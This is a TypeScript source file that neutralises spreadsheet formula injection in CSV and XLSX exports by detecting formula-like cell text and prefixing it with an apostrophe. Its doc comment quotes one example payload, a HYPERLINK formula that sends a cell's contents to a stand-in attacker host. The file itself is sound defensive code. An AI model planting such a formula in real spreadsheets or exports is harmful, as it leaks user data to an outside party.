/**
 * Spreadsheet formula injection (CSV injection): a cell whose text begins with `=`, `+`, `-`,
 * `@`, a tab or a carriage return may be run as a formula by Excel, WPS or LibreOffice
 * (`=HYPERLINK("http://evil.example/?leak="&A1,"点击")`). Every exported text cell is checked:
 * - in CSV, which has no cell types, such text gets a leading `'` (spreadsheets read it as text);
 * - in XLSX the cell is a text cell in the Text number format (`@`), the file-format form of
 *   Excel's leading apostrophe: shown exactly as written (a target such as `=100%` prints as
 *   `=100%`), never evaluated, not even after the cell is edited.
 * A plain number (`-5`, `+3.5`, `-12.5%`) and a lone dash are data, not formulas: left alone.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)(e[+-]?\d+)?%?$/i;

export function looksLikeSpreadsheetFormula(text: string): boolean {
  return FORMULA_START.test(text) && text !== '-' && text !== '+' && !PLAIN_NUMBER.test(text);
}

/** For CSV: `'` before text that a spreadsheet would run as a formula. */
export function neutraliseSpreadsheetText(text: string): string {
  return looksLikeSpreadsheetFormula(text) ? `'${text}` : text;
}
